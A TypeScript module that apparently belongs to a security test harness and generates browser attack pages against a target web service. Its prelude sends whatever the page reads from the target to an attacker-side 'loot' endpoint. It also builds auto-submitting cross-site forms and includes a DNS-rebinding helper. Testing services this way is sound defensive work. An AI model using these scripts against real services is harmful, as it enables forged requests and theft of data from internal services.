/** The scripts that attacks are made of, as the text that a browser runs. */
import type { Resource } from './attacker.ts';
import type { Aim, Surroundings } from './row.ts';

/**
 * Names for every script: `url`, `body()` (without a type, so that no Content-Type is sent), `say(text)` (reports),
 * `attempt(f)` (reports what `f` yields, or that it failed).
 */
export function prelude(aim: Aim, { loot }: Surroundings): string {
  return `
const aim = ${JSON.stringify(aim)};
const url = aim.service + aim.path;
const body = () => new Blob([aim.body ?? '']);
const say = (text) => fetch(${JSON.stringify(loot)}, { method: 'POST', mode: 'no-cors', body: String(text).slice(0, 60000) });
const attempt = async (f) => {
  try { await say(await f()); } catch (error) { await say('failed: ' + error); }
};
const readText = (answer) => answer.text();
const readFirst = async (answer) => new TextDecoder().decode((await answer.body.getReader().read()).value);
`;
}

/** A page that runs `code`, with `html` before it. */
export function page(aim: Aim, around: Surroundings, code: string, html = ''): Resource {
  return {
    body: `<!doctype html><meta charset="utf-8"><title>attack</title><body>${html}
<script>${prelude(aim, around)}${code}</script>`,
  };
}

export function script(aim: Aim, around: Surroundings, code: string): Resource {
  return { type: 'text/javascript', body: `${prelude(aim, around)}${code}` };
}

/** Attributes of a form. */
export interface FormOptions {
  readonly enctype?: string;
  readonly target?: string;
  readonly action?: string;
  readonly fields?: string;
}

const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

export function form(aim: Aim, options: FormOptions = {}): string {
  const {
    enctype = 'application/x-www-form-urlencoded',
    target = '_self',
    fields = '<input name="a" value="b">',
  } = options;
  const action = options.action ?? `${aim.service}${aim.path}`;
  return `<form id="form" method="post" action="${attribute(action)}" enctype="${enctype}" target="${target}">${fields}</form>`;
}

export const SUBMIT = `document.getElementById('form').submit();`;

/** Waits until this page's own name leads to the service: its health check is public. */
export const REBIND = (base: string) => `
const rebind = async () => {
  // The connection may be cut with its answer.
  await fetch(${JSON.stringify(base)}.replace('attempt', 'rebind')).catch(() => undefined);
  for (let tries = 0; tries < 100; tries++) {
    const answer = await fetch('/api/status').then((r) => r.text(), () => '');
    if (answer.includes('"ok"')) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('the name still leads to the attacker');
};
`;
